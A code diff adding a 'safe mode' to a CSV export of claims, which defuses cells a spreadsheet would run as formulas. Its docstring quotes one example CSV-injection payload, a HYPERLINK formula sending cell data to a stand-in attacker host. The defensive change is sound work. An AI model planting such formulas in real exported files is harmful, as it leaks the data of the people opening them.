@@ -5,6 +5,13 @@ One row per claim, the columns of the public claim shape in its order (``ClaimPu
 Quoting is the ``csv`` module's (RFC 4180: ``"`` doubled, fields with commas, quotes or line
 breaks quoted, CRLF line ends). The rows come in pages of the list's keyset query, so memory
 stays flat whatever the number of claims.
+
+Safe mode (``safe=True``) is for files opened in a spreadsheet: a cell that a spreadsheet would
+run as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, as
+OWASP's "CSV injection" advice lists) gets a leading ``'``, which shows it as text. A claim's
+statement or quote comes from a reviewer, or from a story pasted into the intake, and a cell
+like ``=HYPERLINK("http://evil.example/?"&A1)`` would otherwise run on an editor's machine.
+The default stays exact, so the CSV reads back to the JSON list.
 """
 
 from __future__ import annotations
@@ -22,6 +29,8 @@ from claims.models import ClaimPublic
 from claims.queries import ClaimQuery
 
 COLUMNS: Final = tuple(ClaimPublic.model_fields)
+FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet may take as the start of a formula (safe mode defuses these)."""
 _PAGE = 200
 
 
@@ -36,17 +45,24 @@ def cell(value: Any) -> str:
     return str(value)
 
 
-def row(claim: dict[str, Any]) -> list[str]:
-    """Turn a claim's public form into its CSV row."""
-    return [cell(claim[name]) for name in COLUMNS]
+def defused(text: str) -> str:
+    """Prefix a cell a spreadsheet would run as a formula with ``'`` (safe mode)."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def row(claim: dict[str, Any], *, safe: bool = False) -> list[str]:
+    """Turn a claim's public form into its CSV row (formula cells defused when ``safe``)."""
+    cells = [cell(claim[name]) for name in COLUMNS]
+    return [defused(c) for c in cells] if safe else cells
 
 
 def csv_chunks(
-    session: Session, query: ClaimQuery, *, today: date, due_soon_days: int
+    session: Session, query: ClaimQuery, *, today: date, due_soon_days: int, safe: bool = False
 ) -> Iterator[str]:
     """Yield the CSV text: the header, then the matching claims a page at a time.
 
     ``query``'s filters and sort apply; its ``limit`` and ``cursor`` do not (all rows come).
+    ``safe`` defuses cells a spreadsheet would run as formulas.
     """
     buffer = io.StringIO()
     writer = csv.writer(buffer)
@@ -57,7 +73,7 @@ def csv_chunks(
     while True:
         rows = storage.list_claims(session, claim_filter, sort=query.sort, limit=_PAGE, after=after)
         for claim in rows[:_PAGE]:
-            writer.writerow(row(shapes.claim(claim, today, due_soon_days)))
+            writer.writerow(row(shapes.claim(claim, today, due_soon_days), safe=safe))
         yield _drain(buffer)
         if len(rows) <= _PAGE:
             return
